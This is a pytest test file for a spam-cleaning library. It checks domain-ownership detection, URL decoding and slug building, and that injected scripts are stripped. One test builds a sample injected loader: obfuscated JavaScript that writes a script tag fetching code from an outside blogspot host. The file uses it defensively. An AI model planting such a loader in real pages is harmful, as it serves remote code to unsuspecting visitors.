"""Whose a domain is."""

from __future__ import annotations

import pytest

import spamguard
from spamguard.examine.hosts import domain_of, own_domains, site_of, slug_of
from spamguard.page.outline import outline_of
from spamguard.page.tokens import view_of

SHOP = "".join(f'<a href="https://shop.example.net/{n}">casino {n}</a> ' for n in range(40))


def _own(html: str) -> frozenset[str]:
    return own_domains(outline_of(view_of(html.encode())))


def test_a_block_of_links_to_one_shop_does_not_make_the_shop_the_owner() -> None:
    assert _own(f'<p>We row.</p><a href="/news">News</a> <a href="/boats">Boats</a><div>{SHOP}</div>') == frozenset()
    assert _own(f"<p>We row.</p><div>{SHOP}</div>") == frozenset()


def test_a_site_that_names_its_own_files_in_full_is_the_owner() -> None:
    menu = "".join(f'<a href="https://club.example.org/{n}">page {n}</a> ' for n in range(9))
    assert _own(f'<link rel="stylesheet" href="https://club.example.org/a.css"><nav>{menu}</nav>') == {"example.org"}


@pytest.mark.parametrize(
    "head",
    [
        '<link rel="canonical" href="https://www.example.org/">',
        '<base href="https://example.org/">',
        '<meta property="og:url" content="https://example.org/a">',
    ],
)
def test_what_the_page_says_of_itself_counts_before_all_links(head: str) -> None:
    assert _own(f'{head}<img src="https://cdn.example.com/a.png">{SHOP}') == {"example.org"}


def test_an_address_is_read_as_browsers_read_it() -> None:
    written = "".join(f"&#{ord(letter):07};" for letter in "https://bet.example.net/slots")
    assert domain_of(written) == "example.net"
    assert "slots" in slug_of(written)
    assert domain_of("/a?b&#38;c") is None


def test_codes_in_an_address_are_no_words() -> None:
    assert slug_of("https://ads.example.net/c?s=Kg0duQzAOiIGCMcBEL0TKg0duQzAOiIGCKsB") == "ads example net c s"
    assert slug_of("https://a.example.net/best-online-casino-2024") == "a example net best online casino 2024"


def test_a_name_below_a_shared_domain_is_a_site_of_its_own() -> None:
    assert site_of("https://club.github.io/a") == "club.github.io"
    assert site_of("//a.b.example.net") == "b.example.net"
    assert site_of("https://github.io/") == "github.io"
    assert site_of("https://www.club.co.uk/") == "club.co.uk"
    assert site_of("/a") is None


def test_links_to_other_blogs_of_a_hoster_do_not_speak_for_a_script() -> None:
    partners = "".join(f'<p><a href="https://club-{n}.blogspot.com/">Club {n}</a></p>\n' for n in range(4))
    page = f"<!doctype html><title>Clubs</title><h1>Our clubs</h1>\n{partners}"
    loader = "document['\\x77\\x72\\x69\\x74\\x65']('<script src=\"https://qkz77.blogspot.com/a.js\"></scr'+'ipt>')"
    put_in = f"{page}<script>{loader}</script>"
    assert spamguard.clean(put_in.encode(), path="page.html").data == page.encode()
